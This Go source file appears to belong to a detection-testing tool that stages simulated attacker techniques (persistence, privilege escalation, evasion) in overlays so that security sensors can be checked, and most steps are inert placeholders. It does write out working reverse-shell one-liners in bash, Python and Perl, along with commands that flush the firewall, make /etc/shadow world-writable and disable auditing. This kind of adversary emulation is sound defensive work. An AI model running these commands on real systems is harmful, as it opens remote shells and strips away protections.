package drill

import (
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// prepared is what lies in a drill's overlays before a sensor looks: a technique is about
// files that have been there for long.
var prepared = map[string]func(*stage) error{
	"history-cut": adds("/root/.bash_history", "made up\n"), "history-off": adds("/root/.bash_history", "made up\n"),
	"log-cut":   adds("/var/log/auth.log", "made up\n"),
	"timestomp": adds("/usr/local/bin/vedette-drill", ""), "extended-attribute": adds("/usr/local/bin/vedette-drill", ""),
	"program-replaced": func(s *stage) error { return s.inert("/usr/sbin/vedette-drill") },
	"setuid-bit": func(s *stage) error {
		if _, err := s.folder("/usr/local/bin"); err != nil {
			return err
		}
		return s.inert("/usr/local/bin/vedette-drill")
	},
	"authorized-key": adds("/root/.ssh/known_hosts", ""), "shell-profile": adds("/root/.bashrc", ""),
	"private-keys": adds("/root/.ssh/id_ed25519", "made up\n"), "secret-files": adds("/root/.aws/credentials", "[default]\naws_access_key_id = made-up\n"),
	"history-searched": adds("/root/.bash_history", "mysql -u root --password=made-up\n"),
	"browser-store":    adds("/root/.mozilla/firefox/x.default/logins.json", "{}\n"), "password-store": adds("/root/vault.kdbx", "made up\n"),
}

// parts are what a drill's further processes do.
var parts map[string]func(*stage) error

// bodies are what drills do, by id.
var bodies map[string]func(*stage) error

func init() { // they name each other
	parts = map[string]func(*stage) error{
		"wait":   func(s *stage) error { <-s.ctx.Done(); return nil },
		"moment": func(s *stage) error { s.pause(time.Second); return nil },
		"peer":   beOtherSide,
		"dial":   func(s *stage) error { return dial(s.ctx, s.args[0], 1) },
		"send":   func(s *stage) error { return dial(s.ctx, s.args[0], 1<<20) },
		"shell":  shellFor,
		"proxy":  handOn,
		"write":  func(s *stage) error { return s.write(s.args[0], s.args[1]) },
		"trace":  traceAndWrite, "dump": traceAndRead, "memory": writeMemory, "foreign": writeForeign,
		"userns": makeUserNamespace,
	}
	bodies = map[string]func(*stage) error{
		"control-process": func(s *stage) error { return s.sh("true") },
		"control-files":   adds("/etc/vedette-drill.conf", "# nothing\n"),
		"control-network": func(s *stage) error { return s.talk(peerSink, "127.0.0.1:8080", s.self("dial", "127.0.0.1:8080").Run) },

		"shell-to-network": func(s *stage) error {
			return s.talk(peerExit, netPeer+":4444", func() error {
				return s.run("bash", "-c", "exec 5<>/dev/tcp/"+netPeer+"/4444; bash <&5 >&5 2>&1 0>&1")
			})
		},
		"python-to-network": func(s *stage) error {
			return s.talk(peerExit, netPeer+":4444", func() error {
				return s.run("python3", "-c", "import socket,os,subprocess\ns=socket.create_connection(('"+netPeer+"',4444))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh'])")
			})
		},
		"perl-to-network": func(s *stage) error {
			return s.talk(peerExit, netPeer+":4444", func() error {
				return s.run("perl", "-e", `use Socket; socket(S,PF_INET,SOCK_STREAM,6); connect(S,pack_sockaddr_in(4444,inet_aton("`+netPeer+`"))); open(STDIN,"<&S"); exec("/bin/sh");`)
			})
		},
		"io-uring":   setUpRing,
		"cron-entry": types("/etc/cron.d/vedette-drill", "# a drill's\n"),
		"at-job":     adds("/var/spool/cron/atjobs/a0000101b8f0aa", "#!/bin/sh\ntrue\n", "/var/spool/at/a0000101b8f0aa", "#!/bin/sh\ntrue\n"),
		"timer-unit": func(s *stage) error {
			return errors.Join(s.write("/etc/systemd/system/vedette-drill.timer", "[Timer]\nOnCalendar=yearly\n"),
				s.link("/etc/systemd/system/vedette-drill.timer", "/etc/systemd/system/timers.target.wants/vedette-drill.timer"))
		},
		"start-service": func(s *stage) error {
			return s.run("systemctl", "--no-block", "start", "vedette-drill-that-is-not-there.service")
		},
		"path-interception": func(s *stage) error {
			dir, err := s.place("/tmp", false)
			if err == nil {
				err = s.inert(filepath.Join(dir, "id"))
			}
			if err != nil {
				return err
			}
			cmd := s.command(findTool("sh"), "-c", "id")
			cmd.Env = append(os.Environ(), "PATH="+dir+":"+toolsIn)
			return attempt(cmd)
		},
		"preloaded-library": preload,
		"preload-list":      types("/etc/ld.so.preload", "\n"),
		"service-shell": func(s *stage) error {
			nginx := filepath.Join(s.scratch, "nginx")
			if err := copyProgram(nginx); err != nil {
				return err
			}
			cmd := s.copied(nginx, "shell", netPeer+":8080")
			out, err := cmd.StdoutPipe()
			if err == nil {
				err = cmd.Start()
			}
			if err != nil {
				return fmt.Errorf("starting the service: %w", err)
			}
			if _, err := out.Read(make([]byte, 16)); err != nil {
				return fmt.Errorf("waiting for the service: %w", err)
			}
			return errors.Join(s.part("dial", netPeer+":8080"), cmd.Wait())
		},

		"service-unit":    adds("/etc/systemd/system/vedette-drill.service", "[Service]\nExecStart=/bin/true\n"),
		"authorized-key":  types("/root/.ssh/authorized_keys", "# a drill's\n"),
		"account-added":   types("/etc/passwd", "vdrill:x:65533:65534::/nonexistent:/usr/sbin/nologin\n"),
		"account-changed": rewrites("/etc/shadow"),
		"group-joined":    adds("/etc/group", "vdrill:x:65533:\n"),
		"shell-profile":   types("/etc/profile.d/vedette-drill.sh", "# a drill's\n", "/root/.bashrc", "# a drill's\n"),
		"udev-rule":       adds("/etc/udev/rules.d/99-vedette-drill.rules", "# a drill's\n"),
		"python-startup":  adds("/usr/lib/python3/dist-packages/vedette_drill.pth", "\n"),
		"package-hook":    adds("/etc/apt/apt.conf.d/99vedette-drill", "// a drill's\n"),
		"rc-script":       types("/etc/rc.local", "#!/bin/sh\nexit 0\n"),
		"autostart-entry": adds("/etc/xdg/autostart/vedette-drill.desktop", "[Desktop Entry]\nHidden=true\n"),
		"module-autoload": func(s *stage) error {
			var u unix.Utsname
			if err := unix.Uname(&u); err != nil {
				return err
			}
			return errors.Join(s.write("/usr/lib/modules/"+unix.ByteSliceToString(u.Release[:])+"/extra/vedette_drill.ko", ""),
				s.write("/etc/modules-load.d/vedette-drill.conf", "# a drill's\n"))
		},
		"pam-changed": adds("/etc/pam.d/vedette-drill", "# a drill's\n"),
		"web-shell": func(s *stage) error {
			who, err := service()
			if err != nil {
				return err
			}
			root, err := s.folder("/var/www/html")
			if err != nil {
				return err
			}
			if err := os.Chown(root, int(who.Uid), int(who.Gid)); err != nil {
				return fmt.Errorf("making a web root: %w", err)
			}
			cmd := s.self("write", "/var/www/html/vedette-drill.php", "")
			cmd.SysProcAttr.Credential, cmd.Dir = who, "/"
			return passOn(cmd.Run())
		},
		"program-replaced": func(s *stage) error {
			const over = "/usr/sbin/vedette-drill"
			return errors.Join(s.inert(over+".new"), os.Rename(over+".new", over))
		},
		"sleep-masked":  masks("sleep.target"),
		"socket-filter": filterPackets,

		"sudo-rule":        types("/etc/sudoers.d/vedette-drill", "# a drill's\n"),
		"setuid-bit":       owning("/usr/local/bin/vedette-drill", func(_ *stage, to string) error { return os.Chmod(to, 0o755|os.ModeSetuid) }),
		"ptrace-injection": onSleeper("trace"),
		"proc-memory":      onSleeper("memory"),
		"foreign-write":    onSleeper("foreign"),
		"user-namespace": func(s *stage) error {
			who, err := service()
			if err != nil {
				return err
			}
			cmd := s.self("userns")
			cmd.SysProcAttr.Credential, cmd.Dir = who, "/"
			return passOn(cmd.Run())
		},
		"new-root": changeRoot,

		"memory-program":  runFromMemory,
		"unpacked-code":   unpack,
		"kernel-module":   forceModule,
		"kernel-program":  loadProgram,
		"fileless-script": fromPlace("/dev/shm", false, "cache", "#!/bin/sh\ntrue\n"),
		"hidden-program":  fromPlace("/var/tmp", true, "cache", ""),
		"masquerade":      masquerade,
		"renamed-tool": func(s *stage) error {
			dir, err := s.place("/dev/shm", false)
			if err == nil {
				err = s.copyTool("cat", filepath.Join(dir, "dbus-helper"))
			}
			if err != nil {
				return err
			}
			return attempt(s.command(filepath.Join(dir, "dbus-helper"), "/etc/hostname"))
		},
		"kernel-thread-name": func(s *stage) error { return s.named(findTool("sleep"), "[kworker/0:2]", "1") },
		"broken-tree": func(s *stage) error {
			err := s.sh("(setsid sh -c 'sleep 0.5; sh -c true' </dev/null >/dev/null 2>&1 &)")
			s.pause(time.Second)
			return err
		},
		"self-deleted": runDeleted,
		"history-cut":  cuts("/root/.bash_history"),
		"timestomp": owning("/usr/local/bin/vedette-drill", func(s *stage, _ string) error {
			return s.run("touch", "-r", "/etc/passwd", "/usr/local/bin/vedette-drill")
		}),
		"bind-mount": hideProcess,
		"loader-proxy": func(s *stage) error {
			loader := firstOf("/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1", "/lib/ld-musl-x86_64.so.1")
			if loader == "" {
				return lacks("a dynamic loader")
			}
			return attempt(s.command(loader, findTool("true")))
		},
		"decode-and-run": func(s *stage) error {
			return s.sh("echo " + base64.StdEncoding.EncodeToString([]byte("true # a drill's")) + " | base64 -d | sh")
		},
		"obfuscated-command": func(s *stage) error { return s.run("bash", "-c", `eval "$(printf '\164\162\165\145')"`) },
		"compile-and-run": func(s *stage) error {
			dir, err := s.place("/tmp", false)
			if err == nil {
				err = s.write(filepath.Join(dir, "x.c"), "int main(void) { return 0; }\n")
			}
			if err != nil {
				return err
			}
			if err := s.run("cc", "-o", filepath.Join(dir, "x"), filepath.Join(dir, "x.c")); err != nil {
				return err
			}
			return attempt(s.command(filepath.Join(dir, "x")))
		},
		"interrupts-ignored": func(s *stage) error { return s.run("nohup", "sleep", "0.5") },
		"extended-attribute": owning("/usr/local/bin/vedette-drill", func(_ *stage, to string) error {
			if err := unix.Setxattr(to, "user.vedette", []byte(strings.Repeat("A", 2048)), 0); err != nil {
				return lacks(fmt.Sprintf("user attributes on overlays in memory (%v)", err))
			}
			return nil
		}),

		"log-cut": cuts("/var/log/auth.log"),
		"history-off": owning("/root/.bash_history", func(s *stage, to string) error {
			return errors.Join(os.Remove(to), s.link("/dev/null", to))
		}),
		"firewall-flushed":    func(s *stage) error { return s.run("nft", "flush", "ruleset") },
		"certificate-added":   adds("/usr/local/share/ca-certificates/vedette-drill.crt", "", "/etc/ssl/certs/vedette-drill.pem", ""),
		"permissions-widened": owning("/etc/shadow", func(s *stage, _ string) error { return s.run("chmod", "0666", "/etc/shadow") }),
		"audit-changed":       adds("/etc/audit/rules.d/vedette-drill.rules", "-D\n"),
		"agent-disabled":      masks("auditd.service"),
	}
	for id, body := range moreBodies {
		bodies[id] = body
	}
}

// adds writes to files, which are in overlays: path, text, path, text.
func adds(files ...string) func(*stage) error {
	return func(s *stage) error {
		for i := 0; i+1 < len(files); i += 2 {
			if err := s.write(files[i], files[i+1]); err != nil {
				return err
			}
		}
		return nil
	}
}

// types is adds as somebody does it who has a shell.
func types(files ...string) func(*stage) error {
	return func(s *stage) error {
		for i := 0; i+1 < len(files); i += 2 {
			_, err := s.folder(filepath.Dir(files[i]))
			if err == nil {
				_, err = s.own(files[i]) // a shell follows links
			}
			if err != nil {
				return err
			}
			if err := s.run("sh", "-c", "printf '%s' '"+strings.ReplaceAll(files[i+1], "'", "")+"' >>"+files[i]); err != nil {
				return err
			}
			if _, err := os.Stat(files[i]); err != nil {
				return fmt.Errorf("a shell wrote no %s: %w", files[i], err)
			}
		}
		return nil
	}
}

// masks a unit where systemd of the host does not look.
func masks(unit string) func(*stage) error {
	return func(s *stage) error { return s.link("/dev/null", "/etc/systemd/system/"+unit) }
}

// talk has somebody to talk to while do does.
func (s *stage) talk(kind, address string, do func() error) error {
	if err := s.peer(kind, address); err != nil {
		return err
	}
	return do()
}

// named starts a program with an argument vector that says something else.
func (s *stage) named(path string, argv ...string) error {
	if path == "" {
		return lacks("sleep")
	}
	cmd := s.command(path)
	cmd.Args = argv
	return attempt(cmd)
}

// fromPlace runs what lies where it should not: a script, or a copy of true when it has no text.
func fromPlace(parent string, hidden bool, name, text string) func(*stage) error {
	return func(s *stage) error {
		dir, err := s.place(parent, hidden)
		if err != nil {
			return err
		}
		path := filepath.Join(dir, name)
		if text == "" {
			if err := s.inert(path); err != nil {
				return err
			}
			return attempt(s.command(path))
		}
		if err := s.write(path, text); err != nil {
			return err
		}
		return s.run("sh", path)
	}
}

func masquerade(s *stage) error {
	dir, err := s.place("/tmp", false)
	if err == nil {
		err = s.inert(filepath.Join(dir, "sshd"))
	}
	if err != nil {
		return err
	}
	return s.named(filepath.Join(dir, "sshd"), "/usr/sbin/sshd", "-D")
}

func firstOf(paths ...string) string {
	for _, p := range paths {
		if _, err := os.Stat(p); err == nil {
			return p
		}
	}
	return ""
}

// preload copies a library of the host, which changes nothing in a program that has it already.
func preload(s *stage) error {
	library := firstOf("/lib/x86_64-linux-gnu/libm.so.6", "/lib/aarch64-linux-gnu/libm.so.6", "/usr/lib64/libm.so.6", "/lib64/libm.so.6")
	if library == "" {
		return lacks("libm.so.6")
	}
	dir, err := s.place("/tmp", false)
	if err == nil {
		err = copyFile(library, filepath.Join(dir, "libcache.so"), 0o755)
	}
	if err != nil {
		return err
	}
	cmd := s.command(findTool("true"))
	cmd.Env = append(os.Environ(), "LD_PRELOAD="+filepath.Join(dir, "libcache.so"))
	return attempt(cmd)
}

// handOn accepts one connection and hands it on to the next address.
func handOn(s *stage) error {
	return relay(s.ctx, s.args[0], s.args[1])
}

// onSleeper does a part to a program that it is no parent of.
func onSleeper(part string) func(*stage) error {
	return func(s *stage) error {
		sleeper, err := s.sleeper()
		if err != nil {
			return err
		}
		err = s.part(part, fmt.Sprint(sleeper.Process.Pid))
		return errors.Join(err, sleeper.Process.Kill())
	}
}

// until waits for a server of this drill to listen.
func until(ctx context.Context, ready func() bool) error {
	tick := time.NewTicker(20 * time.Millisecond)
	defer tick.Stop()
	for !ready() {
		select {
		case <-ctx.Done():
			return context.Cause(ctx)
		case <-tick.C:
		}
	}
	return nil
}
